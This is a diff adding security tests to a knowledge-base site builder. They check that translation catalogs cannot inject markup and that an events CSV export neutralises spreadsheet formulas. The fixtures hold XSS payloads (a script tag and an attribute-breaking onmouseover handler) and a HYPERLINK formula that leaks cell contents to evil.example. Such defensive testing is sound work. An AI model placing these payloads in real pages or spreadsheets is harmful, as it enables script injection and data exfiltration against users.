@@ -389,3 +389,50 @@ def test_bidi_controls_in_labels_cannot_reverse_the_text_around_them(scratch_kb,
     data = {q.object.value for q in ox.parse(path=str(out / "data" / "kb.nt"), format=ox.RdfFormat.N_TRIPLES)
             if isinstance(q.object, ox.Literal)}
     assert f"Event {RLO}with override" in data  # the data keeps the text exactly as written
+
+
+# ---- the knowledge base's own message catalogs ----------------------------------------------------
+
+def test_a_knowledge_base_catalog_cannot_inject_markup(tmp_path):
+    """Translations are printed as markup; a kb/locale/<lang>.po is the knowledge base's, so it is defanged."""
+    from builder import i18n
+    kb = make_kb(tmp_path, {"a.ttl": """
+        id:pub a sem:Actor , schema:Organization ; skos:prefLabel "Pub"@en , "Pub"@fr .
+        """, "locale/fr.po": """
+        msgid ""
+        msgstr ""
+        "Content-Type: text/plain; charset=UTF-8\\n"
+
+        msgid "Events"
+        msgstr "<script>alert('po')</script>Événements"
+
+        msgid "Site"
+        msgstr "Site\\" onmouseover=\\"alert('po2')"
+        """}, site_toml='base_url = "https://example.org/"\nlanguages = ["en", "fr"]\n[title]\nen = "T"\nfr = "T"\n')
+    try:
+        build(kb, tmp_path / "out")
+    finally:
+        i18n.EXTRA_DIRS[:] = [d for d in i18n.EXTRA_DIRS if d != kb / "locale"]
+        i18n.translations_for.cache_clear()
+    page = hk.parse_page(tmp_path / "out" / "fr" / "index.html", tmp_path / "out")
+    assert "<script>alert('po')</script>Événements" in page.text()  # shown as text
+    assert not any(attrs.get("type") is None and not attrs.get("src") for attrs, _ in page.scripts)
+    assert not any(name.startswith("on") for _, attrs in page.tags for name in attrs)
+    assert any(attrs.get("aria-label") == "Site\" onmouseover=\"alert('po2')" for _, attrs in page.tags)
+
+
+def test_the_events_csv_holds_no_live_spreadsheet_formula(scratch_kb, tmp_path):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    kb = scratch_kb({"a.ttl": f"""
+        id:pub a sem:Actor , schema:Organization ; skos:prefLabel "@SUM(A1)"@en , "ن"@ar .
+        id:src a prov:Entity , schema:Report ; skos:prefLabel "+src"@en , "م"@ar ; dcterms:publisher id:pub .
+        id:somewhere a sem:Place ; skos:prefLabel "-place"@en , "ك"@ar ; schema:latitude -33.5 ; schema:longitude -70.25 .
+        id:ev a sem:Event ; skos:prefLabel {hk.turtle_string(formula)}@en , "ح"@ar ; tl:perpetrator id:pub ;
+            sem:hasPlace id:somewhere ; dcterms:date "2024-01-01"^^edtf:EDTF ; prov:wasDerivedFrom id:src .
+        """})
+    build(kb, tmp_path / "out")
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "data" / "events.csv").read_text(encoding="utf-8"))))
+    cells = [v for row in rows for v in row.values() if v]
+    assert "'" + formula in cells and "'-place" in cells and "'+src" in cells
+    assert not [c for c in cells if c[:1] in "=+@" or (c[:1] == "-" and not re.fullmatch(r"-[0-9.]+", c))]
+    assert "-33.5" in cells and "-70.25" in cells  # numbers stay numbers
